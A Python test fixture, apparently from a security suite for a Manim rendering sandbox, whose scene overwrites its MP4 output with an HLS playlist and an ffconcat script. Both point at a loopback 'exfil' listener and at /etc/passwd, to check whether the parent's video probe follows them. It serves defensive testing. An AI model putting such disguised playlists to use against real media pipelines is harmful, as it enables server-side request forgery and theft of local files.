"""Hand the parent a "video" that is an HLS playlist / ffconcat script pointing at the loopback and /etc.

After Manim wrote the real video, the scene overwrites it with a playlist. If the parent's
PyAV probe followed it, the worker (which has the network and runs as root) would connect
to the test's listener or read local files.
"""
from manim import *
import os

FINAL = "media/videos/scene/480p15/animation.mp4"

HLS = """#EXTM3U
#EXT-X-VERSION:3
#EXT-X-TARGETDURATION:10
#EXT-X-MEDIA-SEQUENCE:0
#EXTINF:10.0,
http://127.0.0.1:@TCP_PORT@/hls-exfil.ts
#EXTINF:10.0,
file:///etc/passwd
#EXT-X-ENDLIST
"""
CONCAT = """ffconcat version 1.0
file 'http://127.0.0.1:@TCP_PORT@/concat-exfil.mp4'
file '/etc/passwd'
"""


class PlaylistAsVideo(Scene):
    def construct(self):
        self.play(Create(Square()), run_time=0.3)

    def render(self, *args, **kwargs):
        result = super().render(*args, **kwargs)
        with open(FINAL, "w") as fh:
            fh.write(HLS)
        os.makedirs("media/videos/other/480p15", exist_ok=True)
        with open("media/videos/other/480p15/animation.mp4", "w") as fh:
            fh.write(CONCAT)
        return result
